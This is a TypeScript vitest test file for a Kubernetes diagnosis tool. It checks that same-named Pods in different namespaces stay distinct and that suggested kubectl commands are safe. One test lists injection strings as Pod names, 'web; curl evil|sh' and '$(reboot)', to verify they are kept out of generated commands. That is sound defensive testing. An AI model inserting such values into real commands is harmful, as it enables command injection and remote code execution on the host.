// Tests that a diagnosis keeps Pods of one name apart, and names them in commands only where that is safe.

import { describe, expect, it } from 'vitest';
import type { Cause } from '../../src/why/cause.ts';
import { causesIn } from './causesIn.ts';

const causesOf = (...texts: string[]): readonly Cause[] =>
  causesIn(texts.map((text, index) => ({ name: `${index}.txt`, text })));
const played = (...texts: string[]): string[] =>
  causesOf(...texts)
    .filter(({ certainty }) => certainty !== 'possible')
    .map(({ namespace = '-', pod = '-', id }) => `${namespace}/${pod} ${id}`)
    .sort();

const described = (namespace: string, reason: string, code: number) => `Name: web-0
Namespace: ${namespace}
Containers:
  app:
    Last State: Terminated
      Reason: ${reason}
      Exit Code: ${code}
    Restart Count: 2
Events:
  Warning  BackOff  4s (x3 over 30s)  kubelet  Back-off restarting failed container app
`;
const object = (namespace: string, terminated: object, uid = namespace) => ({
  kind: 'Pod',
  metadata: { name: 'web-0', namespace, uid },
  status: { containerStatuses: [{ name: 'app', restartCount: 2, lastState: { terminated } }] },
});
const [PROD, STAGING] = [
  object('prod', { exitCode: 1, reason: 'Error' }),
  object('staging', { exitCode: 137, reason: 'OOMKilled' }),
];
const BOTH = ['prod/web-0 exit', 'staging/web-0 oom'];

describe('two Pods of one name in two namespaces', () => {
  it.each([
    ['a List', [JSON.stringify({ items: [PROD, STAGING] }, undefined, 4)]],
    ['a List in one line', [JSON.stringify({ items: [PROD, STAGING] })]],
    ['two files', [JSON.stringify(PROD), JSON.stringify(STAGING)]],
    ['two outputs of describe', [described('prod', 'Error', 1) + described('staging', 'OOMKilled', 137)]],
  ])('%s', (_, texts) => {
    expect(played(...texts)).toEqual(BOTH);
  });

  it('get events -A', () => {
    const text = `NAMESPACE   LAST SEEN   TYPE     REASON    OBJECT      MESSAGE
prod        2m          Normal   Killing   pod/web-0   Container app failed liveness probe, will be restarted
staging     1m          Normal   Killing   pod/web-0   Container app failed startup probe, will be restarted
`;
    expect(played(text)).toEqual(['prod/web-0 liveness', 'staging/web-0 startup-probe']);
  });

  it('the kubelet’s log', () => {
    const killed = (pod: string, probe: string) =>
      `I0501 10:00:00.000000    1042 kuberuntime_manager.go:1027] "Message for Container of pod" containerName="app" containerStatusID={"Type":"containerd","ID":"0a1b"} pod="${pod}" containerMessage="Container app failed ${probe} probe, will be restarted"`;
    expect(played(`${killed('prod/web-0', 'liveness')}\n${killed('staging/web-0', 'startup')}`)).toEqual([
      'prod/web-0 liveness',
      'staging/web-0 startup-probe',
    ]);
  });

  it('get pods -A', () => {
    expect(
      played(
        'prod      web-0   0/1  OOMKilled          1   5m\nstaging   web-0   0/1  ImagePullBackOff   0   5m',
      ),
    ).toEqual(['prod/web-0 oom', 'staging/web-0 image-pull']);
  });
});

it('an Event without its namespace belongs to the only Pod of its name', () => {
  const event = '2m  Normal  Killing  pod/web-0  Container app failed liveness probe, will be restarted';
  expect(played(described('prod', 'Error', 137), event)).toContain('prod/web-0 liveness');
});

it('keeps two Pods apart that had one name one after the other', () => {
  const old = object('shop', { exitCode: 137, reason: 'OOMKilled' }, 'uid-1');
  const now = object('shop', { exitCode: 2, reason: 'Error' }, 'uid-2');
  expect(played(JSON.stringify({ items: [old, now] }))).toEqual(['shop/web-0 exit', 'shop/web-0 oom']);
});

it('takes the name of a node or of a workload for no Pod', () => {
  const node =
    'Name:   n2\nRoles:  <none>\nEvents:\n  Warning  Rebooted  5m  kubelet  Node n2 has been rebooted, boot id: 1-2\n';
  const pod = `Name: web-0\nNode: n1/192.0.2.1\n${described('shop', 'Error', 1).slice('Name: web-0\n'.length)}`;
  const causes = causesOf(node + pod);
  expect(causes.map(({ pod: name, id }) => `${name} ${id}`)).toEqual(['web-0 exit']);
});

describe('the next command', () => {
  const open = (reason: string, code: number) => described('shop', reason, code).replace(/Events:.*/s, '');
  const next = (text: string) => causesOf(text).flatMap((cause) => cause.next ?? []);

  it('has namespace, container and node', () => {
    expect(next(open('Error', 1))).toContain('kubectl logs web-0 -n shop -c app --previous');
    const placed = `${open('Error', 1)}Node: n1/192.0.2.1\n2m Normal Killing pod/web-0 Container app definition changed, will be restarted`;
    expect(next(placed)).toContain('kubectl get --raw /api/v1/nodes/n1/proxy/configz');
  });

  it('reads the namespace of the context if the text has none', () => {
    expect(next(open('Error', 1).replace(/Namespace.*\n/, ''))).toContain(
      'kubectl logs web-0 -c app --previous',
    );
  });

  it.each(['web; curl evil|sh', '$(reboot)', 'web 0', 'Web-0', '-o', 'a'.repeat(300)])(
    'keeps the placeholder for %s',
    (name) => {
      const text = open('Error', 1).replace('web-0', name).replaceAll('shop', 'shop && x');
      for (const command of next(text)) {
        expect(command).not.toContain(name);
        expect(command).not.toContain('&& x');
      }
      expect(next(text)[0]).toMatch(/ POD | POD$/);
    },
  );

  it('uses no program of Linux for a Pod on Windows', () => {
    const text = `${open('Error', 137)}Node-Selectors:  kubernetes.io/os=windows\n2m Normal Killing pod/web-0 Container app definition changed, will be restarted`;
    expect(next(text).length).toBeGreaterThan(0);
    expect(next(text).join('\n')).not.toMatch(/journalctl|crictl|systemctl/);
  });
});
